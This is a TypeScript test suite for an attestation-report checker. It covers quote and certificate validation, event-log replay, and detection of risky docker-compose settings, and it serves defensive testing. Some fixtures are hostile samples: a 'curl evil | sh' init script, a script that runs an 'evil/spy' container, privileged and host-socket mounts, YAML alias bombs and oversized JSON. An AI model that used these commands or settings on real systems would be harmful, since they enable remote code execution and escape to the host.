// What an attestation report proves, on reports under a test root: whole, with something wrong in it, and hostile.
import assert from "node:assert/strict";
import { checkReport, type Expectations } from "../../../src/broker/attestation/checkReport.js";
import { intelRoot, sandboxRoot } from "../../../src/broker/attestation/chain.js";
import { isInside, publicDomain } from "../../../src/broker/attestation/certificate.js";
import { startedImages } from "../../../src/broker/attestation/compose.js";
import { parseAdditionalInfo } from "../../../src/broker/wire/additionalInfo.js";
import {
  custodyWord,
  type CustodyStep,
  type CustodyStepId,
  type ReportVerification,
} from "../../../src/domain/attestation.js";
import { changed, nonce, now, signer, TestEnclave } from "../../support/reports.js";
import type { Json } from "../../support/sandboxUser.js";

const enclave = new TestEnclave();
const trusted: Expectations = { signer, now, nonce, root: enclave.root(), info: enclave.info() };
const check = (text: string, expectations: Partial<Expectations> = {}) =>
  checkReport(Buffer.from(text), { ...trusted, ...expectations });
const stepOf = ({ steps }: ReportVerification, id: CustodyStepId): CustodyStep | undefined =>
  steps.find((one) => one.id === id);
/** `id why` of what failed. */
const failures = ({ steps }: ReportVerification) =>
  steps.filter(({ status }) => status === "failed").map(({ id, why }) => `${id} ${why}`);

describe("an attestation report", () => {
  it("is proven where its root is trusted, and says what is not checked", () => {
    const verification = check(enclave.report());
    assert.equal(custodyWord(verification.steps), "proven");
    assert.deepEqual(
      verification.steps
        .filter(({ status }) => status !== "proven")
        .map(({ id, status, why }) => [id, status, why]),
      [
        ["tcb-level", "not-checked", "noCollateral"],
        ["nonce", "not-checked", "nonceIgnored"], // the gateway takes none
        ["os-image", "not-checked", "noService"],
        ["unbound", "observed", undefined],
      ],
    );
    assert.equal(verification.measures.images.length, 1);
    assert.equal(verification.measures.rtmrs.length, 4);
    assert.equal(verification.measures.signer, signer);
  });

  it("of the model's own enclave binds its key and the nonce", () => {
    const verification = check(enclave.modelReport(), { kind: "llm" });
    assert.equal(custodyWord(verification.steps), "proven");
    assert.equal(stepOf(verification, "llm-signer")?.status, "proven");
    assert.equal(stepOf(verification, "nonce")?.status, "proven");
    const old = check(enclave.modelReport(), { kind: "llm", nonce: "cd".repeat(32) });
    assert.equal(stepOf(old, "nonce")?.why, "nonceIgnored");
    assert.equal(stepOf(old, "nonce")?.status, "not-checked");
  });

  it("is refused where Intel's root is expected, whatever its certificates say", () => {
    const verification = check(enclave.report(), { root: intelRoot });
    assert.equal(verification.root, "sandbox");
    assert.deepEqual(failures(verification), ["root unknownRoot", "qe-identity different"]);
    assert.equal(stepOf(verification, "signer")?.status, "observed");
    assert.equal(stepOf(verification, "signer")?.why, "quoteUnproven");
  });

  it("of the sandbox is compared in every part and proves nothing", () => {
    const verification = check(enclave.report(), { root: sandboxRoot });
    assert.deepEqual(failures(verification), []);
    assert.equal(custodyWord(verification.steps), "notProven");
    const root = stepOf(verification, "root");
    assert.deepEqual([root?.status, root?.why, verification.root], ["not-checked", "sandbox", "sandbox"]);
  });

  it("is refused where the sandbox is expected and the root names itself otherwise", () => {
    const text = changed(enclave.report(), (report) => (report.quote = renamed(report.quote as string)));
    assert.ok(failures(check(text, { root: sandboxRoot })).includes("root unknownRoot"));
  });

  it("can be checked without anything to compare with", () => {
    const verification = checkReport(Buffer.from(enclave.report()), { now, root: enclave.root() });
    assert.equal(stepOf(verification, "signer")?.why, "offline");
    assert.equal(custodyWord(verification.steps), "notProven");
  });

  const wrongs: [what: string, text: () => string, expected: string[]][] = [
    ["of another signer", () => enclave.report("signer"), ["signer different"]],
    [
      "with another compose file",
      () => enclave.report("compose"),
      ["compose-hash different", "tcb-info different"],
    ],
    ["of an enclave under test", () => enclave.report("debug"), ["debug debuggable"]],
    [
      "with a changed quote",
      () => enclave.report("signature"),
      ["quote-signature different", "tcb-info different"],
    ],
    ["without a quote", () => enclave.report("empty"), ["structure missing"]],
    [
      "with an invented quote",
      () => changed(enclave.report(), (r) => (r.quote = "00")),
      ["structure malformed"],
    ],
    [
      "with bytes behind the quote",
      () => changed(enclave.report(), (r) => (r.quote += "01")),
      ["structure trailing"],
    ],
    [
      "in capitals",
      () => changed(enclave.report(), (r) => (r.quote = String(r.quote).toUpperCase())),
      ["structure malformed"],
    ],
    [
      "without the report data",
      () => changed(enclave.report(), (r) => delete r.report_data),
      ["report-data missing"],
    ],
    [
      "without an event log",
      () => changed(enclave.report(), (r) => delete r.event_log),
      ["rtmr-replay missing", "event-digests missing", "compose-hash missing", "tcb-info different"],
    ],
    [
      "without a summary",
      () => changed(enclave.report(), (r) => delete r.tcb_info),
      ["compose-hash missing", "tcb-info missing"],
    ],
    [
      "with an event taken out",
      () => events((log) => log.splice(4, 1)),
      ["rtmr-replay different", "tcb-info different"],
    ],
    [
      "with an event put in",
      () => events((log) => log.splice(4, 0, { ...log[4] })),
      ["rtmr-replay different", "tcb-info different"],
    ],
    [
      "whose event says something else",
      () => events((log) => (log[4].event_payload = "00")),
      ["rtmr-replay different", "event-digests different", "tcb-info different"],
    ],
    [
      "with a compose hash in another register",
      () => events((log) => (log[5].imr = 2)),
      ["rtmr-replay different", "compose-hash missing", "tcb-info different"],
    ],
    [
      "with another machine's image",
      () => changed(enclave.report(), (r) => (r.vm_config = '{"os_image_hash":"00"}')),
      ["os-image different"],
    ],
  ];
  for (const [what, text, expected] of wrongs)
    it(`${what} fails, and names where`, () => {
      const verification = check(text());
      assert.deepEqual(failures(verification), expected);
      assert.equal(custodyWord(verification.steps), "failed");
    });

  it("whose certificates are not valid at the time fails", () => {
    assert.deepEqual(failures(check(enclave.report(), { now: Date.UTC(2024, 0, 1) })), ["chain expired"]);
    assert.deepEqual(failures(check(enclave.report(), { now: Date.UTC(2050, 0, 1) })), ["chain expired"]);
  });

  it("with other certificates than those that signed fails", () => {
    const other = new TestEnclave();
    const theirs = Buffer.from(chainOf(other)).toString("hex");
    const ours = Buffer.from(chainOf(enclave)).toString("hex");
    const text = changed(
      enclave.report(),
      (report) => (report.quote = String(report.quote).replace(ours, theirs)),
    );
    const found = failures(check(text));
    // The signatures in certificates differ in length, so that sometimes nothing fits any more.
    assert.match(found[0] ?? "", /^(?:root unknownRoot|structure )/);
  });

  it("names the image that the service announces, or fails", () => {
    const image = (changes: object) =>
      stepOf(check(enclave.report(), { info: enclave.info(changes) }), "images");
    assert.equal(image({})?.status, "proven");
    assert.deepEqual([image({ ImageDigest: `sha256:${"0".repeat(64)}` })?.status], ["failed"]);
    assert.equal(image({ ImageName: "another" })?.why, "notStarted");
    assert.equal(image({ ImageDigest: "" })?.why, "notAnnounced");
  });

  const { name, digest } = enclave.image();
  const app = {
    runner: "docker-compose",
    docker_compose_file: `services:\n  broker:\n    image: ${name}@${digest}\n`,
  };
  const started = (changes: object) => {
    const verification = check(enclave.reportOf({ ...app, ...changes }));
    assert.equal(stepOf(verification, "compose-hash")?.status, "proven");
    assert.deepEqual(failures(verification), []);
    return (["image-digests", "images"] as const).map((id) => {
      const step = stepOf(verification, id);
      return [step?.status, step?.why];
    });
  };

  it("proves images only where the compose file is what the system starts", () => {
    assert.deepEqual(started({}), [
      ["proven", undefined],
      ["proven", undefined],
    ]);
    const decoys = [
      { runner: "bash", bash_script: "docker run evil/spy" },
      { runner: undefined },
      { runner: {} },
    ];
    for (const decoy of decoys)
      assert.deepEqual(started(decoy), [
        ["not-checked", "otherRunner"],
        ["not-checked", "otherRunner"],
      ]);
  });

  it("tells the images of a compose file that nobody need start, as what is compared later", () => {
    const decoy = JSON.stringify({ docker_compose_file: "services:\n  a:\n    image: x:1\n" });
    assert.deepEqual(startedImages(decoy), { why: "otherRunner", named: [{ name: "x:1" }] });
  });

  it("only observes images where scripts run before them, and names the scripts", () => {
    for (const scripts of [
      { pre_launch_script: "docker run -d evil/spy:latest" },
      { init_script: "curl evil | sh" },
      { pre_launch_script: ["x"] },
    ])
      assert.deepEqual(started(scripts), [
        ["observed", "scripts"],
        ["observed", "scripts"],
      ]);
    const both = check(enclave.reportOf({ ...app, pre_launch_script: "a", init_script: "b" }));
    const right = stepOf(both, "image-digests")?.right;
    assert.equal(right, `init_script\npre_launch_script\n${name}@${digest}`);
    assert.deepEqual(started({ pre_launch_script: "", init_script: null })[0], ["proven", undefined]);
  });

  it("only observes images where a variable from outside may decide what runs", () => {
    const uses = (line: string) => `${app.docker_compose_file}    ${line}\n`;
    for (const variables of [
      { allowed_envs: ["COMPOSE_FILE"] },
      { allowed_envs: ["DOCKER_CONFIG"] },
      { allowed_envs: ["HOME"] },
      { allowed_envs: ["CMD"], docker_compose_file: uses('entrypoint: [sh, -c, "$CMD"]') },
      { allowed_envs: ["SRC"], docker_compose_file: uses('volumes: ["${SRC}:/app"]') },
      { allowed_envs: ["DOCKER_USERNAME"], docker_compose_file: uses('command: "${DOCKER_USERNAME}"') },
      { allowed_envs: ["DOCKER_USERNAME"], docker_compose_file: uses('command: "\\x24\\x44OCKER_USERNAME"') },
      { allowed_envs: "COMPOSE_FILE" },
      { allowed_envs: { 0: "COMPOSE_FILE" } },
      { allowed_envs: ["DOCKER_USERNAME", 7] },
    ])
      assert.deepEqual(
        started(variables),
        [
          ["observed", "variables"],
          ["observed", "variables"],
        ],
        JSON.stringify(variables),
      );
    assert.deepEqual(started({ allowed_envs: ["DOCKER_USERNAME", "DSTACK_DOCKER_PASSWORD"] })[0], [
      "proven",
      undefined,
    ]);
    assert.deepEqual(started({ allowed_envs: null })[0], ["proven", undefined]);
  });

  const composed = (lines: string, before = "") =>
    started({ docker_compose_file: `${before}${app.docker_compose_file}${lines}` });

  it("only observes images where the compose file says more than what is known to leave them to themselves", () => {
    const service = (line: string) => `    ${line}\n`;
    for (const lines of [
      ...[
        'volumes: ["/var/run/docker.sock:/var/run/docker.sock"]',
        'volumes: ["/:/host:ro"]',
        'volumes: ["/data:ro"]',
        'volumes: ["/dstack/user_config:/etc/config"]',
        'volumes: ["./logs:/log"]',
        'volumes: ["..:/etc/config"]',
        'volumes: ["c:/run:/run"]',
        "volumes: [{type: bind, source: /run, target: /run}]",
        "volumes: ['x${Y-/}${Z-.}${Z-.}/run/docker.sock:/x']",
        "volumes: {a: b}",
        "env_file: a.env",
        "label_file: /etc/shadow",
        "privileged: true",
        "use_api_socket: true",
        "pid: host",
        "ipc: host",
        "network_mode: host",
        "userns_mode: host",
        "cap_add: [SYS_ADMIN]",
        "devices: [/dev/mem]",
        "device_cgroup_rules: ['a *:* rwm']",
        "security_opt: [seccomp:unconfined]",
        "volumes_from: ['container:outside']",
        "runtime: other",
        "post_start: [{command: evil, privileged: true}]",
        "entrypoint: [sh, -c, evil]",
        "provider: {type: /tmp/evil}",
        "pull_policy: build",
        "build: .",
        "extends: {file: x}",
        "<<: {privileged: true}",
        "depends_on: {spy: {condition: service_completed_successfully}}",
        "profiles: [never]",
        "scale: 0",
        "deploy: {replicas: 0}",
        "whatever comes: later",
      ].map(service),
      '    volumes: ["data:/host"]\nvolumes:\n  data: {driver_opts: {type: none, o: bind, device: /}}\n',
      '    volumes: ["data:/host"]\nvolumes:\n  data: {external: true}\n',
      '    volumes: ["data:/host"]\nvolumes:\n  <<: {data: {external: true}}\n',
      "    networks: [host]\nnetworks:\n  host: {external: true}\n",
      "    configs: [c]\nconfigs:\n  c: {file: ./user_config}\n",
      "<<: {include: [other.yml]}\n",
      "include: [other.yml]\n",
      "models:\n  m: {model: x}\n",
    ])
      assert.deepEqual(
        composed(lines),
        [
          ["observed", "furtherParts"],
          ["observed", "furtherParts"],
        ],
        lines,
      );
  });

  it("only observes images that take members over from an anchor, wherever it stands", () => {
    const anchor = "x-z: &z {replicas: 0, source: /run, driver_opts: {device: /}, file: /etc/shadow}\n";
    for (const lines of [
      "    deploy: {<<: *z}\n",
      "    volumes: [{<<: *z, target: /x}]\n",
      "volumes: {data: {<<: *z}}\n",
      "volumes: {<<: *z}\n",
      "configs: {c: {<<: *z}}\n",
    ])
      assert.deepEqual(composed(lines, anchor)[1], ["observed", "furtherParts"], lines);
  });

  it("proves images where the compose file says what is usual", () => {
    const usual = `    command: serve
    environment: {<<: *e, PORT: 80}
    volumes: ["data:/data", "data:/old:ro", /cache, "/var/run/dstack.sock:/var/run/dstack.sock"]
    networks: [inner]
    ports: ["80:80"]
    restart: always
    healthcheck: {test: [CMD, "true"]}
volumes:
  data:
networks: {inner: {}}
# 主服务 – “quoted” 🙂\n`;
    assert.deepEqual(composed(usual, "x-e: &e {LEVEL: info}\n"), [
      ["proven", undefined],
      ["proven", undefined],
    ]);
  });

  it("names the parts of a compose file for which images are only observed", () => {
    const file = `${app.docker_compose_file}    privileged: true\nvolumes: {data: {external: true}}\n`;
    const observed = check(enclave.reportOf({ ...app, docker_compose_file: file }));
    const right = stepOf(observed, "image-digests")?.right;
    assert.equal(right, `volumes.data\nbroker.privileged\n${name}@${digest}`);
  });

  it("does not prove images where nobody can name that of another service", () => {
    for (const service of ["{image: $X}", "{image: ''}", "{command: x}", "x"])
      assert.deepEqual(composed(`  x: ${service}\n`), [
        ["observed", "built"],
        ["observed", "built"],
      ]);
  });

  it("knows no images where other readers of YAML may end a line elsewhere", () => {
    for (const end of ["\u0085", "\u2028", "\u2029", "\ufeff", "\u000b", "\u000c", "\ud800"]) {
      const spy = ["# notes", "  spy:", "    image: evil/spy", "    privileged: true", ""].join(end);
      assert.deepEqual(
        composed(`${spy}\n`),
        [
          ["not-checked", "unreadableCompose"],
          ["not-checked", "unreadableCompose"],
        ],
        `U+${end.charCodeAt(0).toString(16)}`,
      );
    }
    assert.deepEqual(composed("# notes\r\n")[0], ["proven", undefined]);
  });

  it("of which scripts run still fails where the announced image is not among those it names", () => {
    const info = enclave.info({ ImageDigest: `sha256:${"0".repeat(64)}` });
    const verification = check(enclave.reportOf({ ...app, init_script: "b" }), { info });
    assert.equal(stepOf(verification, "images")?.status, "failed");
  });

  for (const [verifier, why] of [
    ["cryptopilot", "cryptopilot"],
    ["somebody", "unknownVerifier"],
  ] as const)
    it(`for the verifier ${verifier} is not checked, which is no success`, () => {
      const info = parseAdditionalInfo(JSON.stringify({ TEEVerifier: verifier }));
      const verification = check(enclave.report(), { info });
      assert.deepEqual(verification.steps, [{ id: "report", status: "not-checked", why }]);
      assert.equal(custodyWord(verification.steps), "notProven");
    });

  it("with more parts than any report has is not built, wherever they stand", () => {
    const deep = "[".repeat(1_900_000) + "]".repeat(1_900_000);
    const wide = Array.from({ length: 300_000 }, (_, index) => `"k${index}":0`).join(",");
    const escaped = `"{\\"mrtd\\":\\"${"\\u005b".repeat(60_000)}\\"}"`;
    const stepsOf = (summary: string) => check(`{"quote":"00","tcb_info":${summary}}`);
    for (const summary of [deep, `{${wide}}`, `"${deep}"`])
      assert.deepEqual(failures(stepsOf(summary)), ["report tooLarge"]);
    assert.equal(stepOf(stepsOf(escaped), "tcb-info")?.why, "missing");
    assert.deepEqual(startedImages(`{"runner":"docker-compose","x":"${"x".repeat(600_000)}"}`), {
      why: "unreadableCompose",
    });
  });

  it("never throws and never passes, whatever it holds", () => {
    const deep = "[".repeat(100_000) + "]".repeat(100_000);
    const hostile = [
      ...[
        "",
        "null",
        "[]",
        "{}",
        "oops",
        '"',
        deep,
        `{"quote":${deep}}`,
        '{"quote":1,"event_log":{},"tcb_info":[]}',
      ],
      ...[
        '{"event_log":"[[[]]]","quote":"zz","report_data":"!"}',
        '{"tcb_info":{"app_compose":{}},"event_log":[null]}',
      ],
      changed(
        enclave.report(),
        (r) => (r.event_log = Array(20_000).fill(JSON.parse(String(r.event_log))[4])),
      ),
      changed(enclave.report(), (r) => (r.quote = "ab".repeat(1_000_000))),
      changed(enclave.report(), (r) => (r.intel_quote = "00")),
      "x".repeat(5_000_000),
      `{"quote":"","${"k".repeat(1_000_000)}":1}`,
    ];
    for (const text of hostile) {
      const started = performance.now();
      const verification = check(text);
      assert.equal(custodyWord(verification.steps), "failed", text.slice(0, 80));
      const size = verification.steps.reduce((sum, { left, right }) => sum + `${left}${right}`.length, 0);
      assert.ok(size < 50_000, `${size} characters`);
      assert.ok(performance.now() - started < 5_000);
    }
  });
});

describe("the images of a compose file", () => {
  const images = (file: string) => {
    const read = startedImages(JSON.stringify({ runner: "docker-compose", docker_compose_file: file }));
    return "why" in read ? read.why : read;
  };
  const digest = `sha256:${"ab".repeat(32)}`;

  it("are found however they are written", () => {
    const file = `x-a: &a\n  image: one@${digest}\nservices:\n  a:\n    <<: *a\n  b: {image: "host:5000/two:1"}\n  c: *a\n  d:\n    environment:\n      - image=five\n    image: >-\n      three\n`;
    assert.deepEqual(images(file), {
      images: [{ name: "one", digest }, { name: "host:5000/two:1" }, { name: "three" }],
      ...{ unnamed: [], furtherParts: ["a.<<"], scripts: [], variables: [] },
    });
  });

  it("that nobody can name are told", () => {
    const file =
      "services:\n  a: {build: .}\n  b: {image: $X}\n  c: {extends: {file: x}}\n  d: {image: a, build: .}\n  e:\n";
    const found = images(file);
    assert.ok(typeof found === "object");
    assert.deepEqual(found.unnamed, ["a", "b", "c", "e"]);
    assert.deepEqual(found.furtherParts, ["a.build", "c.extends", "d.build"]);
  });

  it("are unknown where the file is no compose file", () => {
    const bomb = `a: &a [x]\n${Array.from({ length: 25 }, (_, index) => `b${index}: &b${index} [*${index ? `b${index - 1}` : "a"}, *${index ? `b${index - 1}` : "a"}]`).join("\n")}\nservices: *b24\n`;
    for (const file of [
      "",
      "services: []",
      "services: {}",
      "a: b: c",
      "services: {a: {image: x}, a: {image: y}}",
      `${"[".repeat(100_000)}`,
      bomb,
    ])
      assert.equal(images(file), "unreadableCompose", file.slice(0, 40));
    const services = Array.from({ length: 9_000 }, (_, index) => `  s${index}: {<<: *b, image: x}`);
    const keys = Array.from({ length: 9_000 }, (_, index) => `k${index}: `);
    assert.equal(
      images(`x-b: &b {${keys.join(",")}}\nservices:\n${services.join("\n")}\n`),
      "unreadableCompose",
    );
    for (const app of ["oops", undefined]) assert.deepEqual(startedImages(app), { why: "unreadableCompose" });
  });

  it("cost no more time than the file has room for, whatever its aliases stand for", () => {
    const many = (text: string, times: number) => Array<string>(times).fill(text).join(",");
    const services = Array.from({ length: 30 }, (_, index) => `  s${index}: {image: x, volumes: *v}\n`);
    const long = `x-s: &s "${":".repeat(100_000)}"\n`;
    const endless = "services: &s {a: {image: x}, b: [*s], c: *s, d: &d [*s, [*d], *d]}\n";
    for (const file of [
      `${long}x-v: &v [${many("*s", 200)}]\nservices:\n${services.join("")}`,
      `${long}? [${many("*s", 1_000)}]\n: x\nservices: {a: {image: x}}\n`,
      `${endless}`,
    ]) {
      const began = performance.now();
      assert.equal(images(file), "unreadableCompose", file.slice(0, 40));
      assert.ok(performance.now() - began < 200, `${performance.now() - began} ms`);
    }
    const short = `x-l: &l {driver: json-file}\nservices:\n  a: {image: x, logging: *l}\n  b: {image: y, logging: *l}\n`;
    assert.ok(typeof images(short) === "object");
  });

  it("cost no more time for names of variables that are repeated", () => {
    const file = `x: "${"DOCKER_REGISTR".repeat(18_000)}"\nservices: {a: {image: x}}\n`;
    const allowed_envs = Array<string>(12_000).fill("DOCKER_REGISTRY");
    const app = JSON.stringify({ runner: "docker-compose", docker_compose_file: file, allowed_envs });
    const began = performance.now();
    assert.ok("images" in startedImages(app));
    assert.ok(performance.now() - began < 200, `${performance.now() - began} ms`);
  });
});

describe("the domain a provider names", () => {
  it("is asked only where it is a name of the public web", () => {
    for (const name of [
      "localhost",
      "127.0.0.1",
      "10.0.0.1",
      "[::1]",
      "router",
      "a.b:22",
      "a.b/c",
      "a b.c",
      "",
      "1.2",
      "0x7f.1",
    ])
      assert.equal(publicDomain(name, false), undefined, name);
    assert.deepEqual(publicDomain("api.company.example", false), { host: "api.company.example", port: 443 });
    assert.deepEqual(publicDomain("localhost:8443", true), { host: "localhost", port: 8443 });
    assert.equal(publicDomain("api.company.example", true), undefined);
  });

  it("is not asked at addresses inside a network", () => {
    for (const address of [
      "127.0.0.1",
      "10.1.2.3",
      "192.168.1.1",
      "169.254.169.254",
      "100.64.0.1",
      "0.0.0.0",
    ])
      assert.ok(isInside(address, 4), address);
    for (const address of ["::1", "fe80::1", "fd00::1", "::ffff:10.0.0.1", "::ffff:127.0.0.1", "::"])
      assert.ok(isInside(address, 6), address);
    assert.ok(!isInside("93.184.216.34", 4));
    assert.ok(!isInside("2606:4700::1111", 6));
  });
});

function events(change: (log: Json[]) => void): string {
  return changed(enclave.report(), (report) => {
    const log = JSON.parse(String(report.event_log)) as Json[];
    change(log);
    report.event_log = JSON.stringify(log);
  });
}

function chainOf({ authority }: TestEnclave): string {
  return [authority.leaf, authority.platform, authority.root].map(({ certificate }) => certificate).join("");
}

/** The certificates with another organisation in the root; nothing else is made to fit. */
function renamed(quote: string): string {
  const root = enclave.authority.root.certificate;
  const der = Buffer.from(root.replace(/-----[A-Z ]+-----|\s/g, ""), "base64");
  const other = Buffer.from(der.toString("latin1").replaceAll("not Intel", "not intel"), "latin1");
  const pem = `-----BEGIN CERTIFICATE-----\n${other.toString("base64").replace(/.{64}/g, "$&\n").trimEnd()}\n-----END CERTIFICATE-----\n`;
  return quote.replace(Buffer.from(root).toString("hex"), Buffer.from(pem).toString("hex"));
}
